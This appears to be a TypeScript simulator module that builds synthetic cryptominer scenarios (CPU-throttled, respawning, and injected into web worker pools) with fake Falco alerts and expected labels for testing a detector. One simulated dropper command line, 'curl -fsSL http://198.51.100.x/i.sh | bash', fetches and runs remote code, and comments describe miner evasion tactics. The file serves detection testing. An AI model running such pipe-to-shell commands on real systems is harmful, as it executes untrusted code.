import { falcoAlert } from './formats';
import type { SimProcess } from './host';
import { burst } from './host';
import { MINER_RULES, MINERS } from './positives';
import type { Rng } from './rng';
import type { Builder, World } from './world';
import { MINUTE } from './world';

/** Positives where the culprit is not one process: a miner held down to a fifth of the host, respawned, or in a pool. */

function dropperOf(world: World, rng: Rng, start: number): SimProcess {
  return world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: `bash -c curl -fsSL http://198.51.100.${rng.int(2, 250)}/i.sh | bash`,
    owner: rng.pick(['www-data', 'ubuntu', 'root']),
    start: start - rng.between(3_000, 15_000),
    end: start + 1_500,
    load: () => 0.01,
  });
}

function alertMiner(world: World, rng: Rng, miner: SimProcess, parent: SimProcess, times: number[]): void {
  const rule = rng.pick(MINER_RULES.slice(0, 3));
  const withPid = rng.chance(0.6);
  for (const time of times) {
    world.addFalco(
      time,
      falcoAlert({
        time,
        rule: rule.rule,
        priority: rule.priority,
        host: world.host.name,
        process: miner,
        parent,
        withPid,
        message: rule.message,
        tags: [...rule.tags],
        extra: {
          'fd.name': `10.0.0.7:${rng.int(40000, 60000)}->203.0.113.${rng.int(2, 250)}:${rng.pick([3333, 443, 14444])}`,
        },
      }),
    );
  }
}

/** A miner run under `cpulimit` (or `--cpu-max-threads-hint`) so it takes about a fifth of the host and hides in it. */
export const throttledMiner: Builder = (world, rng) => {
  const spec = rng.pick(MINERS);
  const exe = `${spec.dir}/${spec.name}`;
  const cores = world.host.cpus * (world.wide ? rng.between(0.15, 0.25) : rng.between(0.18, 0.24));
  const dropper = dropperOf(world, rng, world.spikeStart);
  const miner = world.process({
    ppid: dropper.pid,
    name: spec.name,
    exe,
    cmdline: `${exe} ${spec.flags} --cpu-max-threads-hint=20`.trim(),
    owner: dropper.owner,
    start: world.spikeStart,
    end: world.spikeEnd,
    load: burst(0, cores, world.spikeStart, world.spikeEnd, 5_000),
  });
  alertMiner(
    world,
    rng,
    miner,
    dropper,
    world.alertTimes(world.spikeStart + rng.between(1_000, 40_000), rng.int(1, 6)),
  );
  return {
    description: `throttled miner ${spec.name} (pid ${miner.pid}) at ${cores.toFixed(2)} of ${world.host.cpus} cpus`,
    expect: { correlated: true, culprit: { pid: miner.pid, name: miner.name }, anomaly: 'cpu' },
  };
};

/**
 * A miner killed now and then (an admin's `pkill`, the OOM killer) and started again with a new pid by what keeps
 * it alive: a watchdog script, or a systemd unit with `Restart=always`. Falco alerts at some of the execs. Each
 * instance lives 40–80 s (wide: 20 s to 2 min).
 */
export const respawningMiner: Builder = (world, rng) => {
  const spec = rng.pick(MINERS);
  const exe = `${spec.dir}/${spec.name}`;
  const cores = Math.max(1, Math.round(world.host.cpus * rng.between(0.4, 1))) * 0.95;
  const dropper = dropperOf(world, rng, world.spikeStart - rng.between(30_000, 4 * MINUTE));
  const viaSystemd = rng.chance(0.4);
  const keeper = viaSystemd
    ? undefined
    : world.process({
        ppid: 1,
        name: 'bash',
        exe: '/usr/bin/bash',
        cmdline: `bash ${spec.dir}/.watchdog.sh`,
        owner: dropper.owner,
        start: dropper.end ?? world.spikeStart,
        load: () => 0.002,
      });
  const instances: SimProcess[] = [];
  for (let start = world.spikeStart; start < world.spikeEnd - 20_000;) {
    const end = Math.min(
      world.spikeEnd,
      start + (world.wide ? rng.between(20_000, 120_000) : rng.between(40_000, 80_000)),
    );
    instances.push(
      world.process({
        ppid: keeper?.pid ?? 1,
        name: spec.name,
        exe,
        cmdline: `${exe} ${spec.flags}`.trim(),
        owner: dropper.owner,
        start,
        end,
        load: burst(0, cores, start, end, 3_000),
      }),
    );
    start = end + rng.between(1_000, 5_000);
  }
  const alerted = instances.filter((_, i) => i === 0 || rng.chance(0.4));
  const parent = keeper ?? world.host.processes.find((p) => p.pid === 1) ?? dropper;
  for (const instance of alerted) {
    alertMiner(world, rng, instance, parent, [instance.start + rng.between(500, 20_000)]);
  }
  const first = alerted[0] as SimProcess;
  return {
    description: `miner ${spec.name} restarted ${instances.length} times by ${viaSystemd ? 'systemd' : 'a watchdog'}, ${alerted.length} execs alerted`,
    expect: {
      correlated: true,
      culprit: { pid: first.pid, name: first.name, pids: instances.map((p) => p.pid) },
      anomaly: 'cpu',
    },
  };
};

const POOLS = [
  {
    name: 'php-fpm8.2',
    exe: '/usr/sbin/php-fpm8.2',
    master: 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)',
    worker: 'php-fpm: pool www',
    owner: 'www-data',
  },
  {
    name: 'gunicorn',
    exe: '/usr/bin/python3.11',
    master: '/usr/bin/python3 /usr/local/bin/gunicorn shop.wsgi:application -w 8 -b 127.0.0.1:8000',
    worker: '/usr/bin/python3 /usr/local/bin/gunicorn shop.wsgi:application -w 8 -b 127.0.0.1:8000',
    owner: 'app',
  },
] as const;

/**
 * A compromised web application: code injected into it (a PHP or Python miner loop reached through an upload)
 * runs in every worker of its pool, and Falco sees one or two workers connect to the mining pool.
 */
export const workerPoolCulprit: Builder = (world, rng) => {
  const pool = rng.pick(POOLS);
  const master = world.process({
    ppid: 1,
    name: pool.name,
    exe: pool.exe,
    cmdline: pool.master,
    owner: 'root',
    load: world.steady(0.003),
  });
  const count = Math.min(12, Math.max(3, Math.round(world.host.cpus * rng.between(1, 2))));
  const total = world.host.cpus * rng.between(0.5, 0.9);
  const workers = Array.from({ length: count }, (_, i) =>
    world.process({
      ppid: master.pid,
      name: pool.name,
      exe: pool.exe,
      cmdline: pool.worker,
      owner: pool.owner,
      start: master.start + 200 + i * 10,
      load: burst(rng.between(0.02, 0.06), total / count, world.spikeStart + i * rng.between(0, 3_000), world.spikeEnd),
    }),
  );
  const rule = rng.pick(MINER_RULES.slice(0, 2));
  const withPid = rng.chance(0.7);
  for (const worker of workers.filter((_, i) => i === 0 || rng.chance(0.15))) {
    for (const time of world.alertTimes(world.spikeStart + rng.between(5_000, 90_000), rng.int(1, 3))) {
      if (time > world.spikeEnd) break;
      world.addFalco(
        time,
        falcoAlert({
          time,
          rule: rule.rule,
          priority: rule.priority,
          host: world.host.name,
          process: worker,
          parent: master,
          withPid,
          message: rule.message,
          tags: [...rule.tags],
          extra: { 'fd.name': `10.0.0.9:${rng.int(40000, 60000)}->203.0.113.${rng.int(2, 250)}:3333` },
        }),
      );
    }
  }
  const first = workers[0] as SimProcess;
  return {
    description: `${pool.name} pool of ${count} workers mining at ${total.toFixed(1)} of ${world.host.cpus} cpus`,
    expect: {
      correlated: true,
      culprit: { pid: first.pid, name: pool.name, pids: [master.pid, ...workers.map((w) => w.pid)] },
      anomaly: 'cpu',
    },
  };
};
